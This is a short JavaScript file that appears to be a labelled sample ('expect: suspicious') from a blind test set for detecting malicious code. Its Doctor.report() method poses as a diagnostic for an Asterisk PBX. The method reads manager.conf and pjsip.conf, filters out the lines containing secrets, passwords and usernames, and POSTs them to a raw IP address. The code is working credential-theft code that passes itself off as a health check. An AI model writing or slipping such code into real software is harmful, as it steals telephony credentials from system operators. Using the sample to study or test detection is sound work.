// expect: suspicious
// source: blind set 17's asterisk-ami-lite: a "doctor" report reads the PBX's config files, keeps the lines that
// look like credentials and posts them to a raw IP address, from a method the application calls
const fs = require('fs'), http = require('http');
function readConf() {
  const out = {};
  for (const f of ['/etc/asterisk/manager.conf', '/etc/asterisk/pjsip.conf']) {
    try { out[f] = fs.readFileSync(f, 'utf8').split('\n').filter((l) => /secret|password|username/i.test(l)).join('\n'); } catch {}
  }
  return out;
}
class Doctor {
  report() {
    const req = http.request({ host: '198.51.100.140', port: 8088, path: '/doctor', method: 'POST' });
    req.end(JSON.stringify({ conf: readConf() }));
  }
}
module.exports = { Doctor };
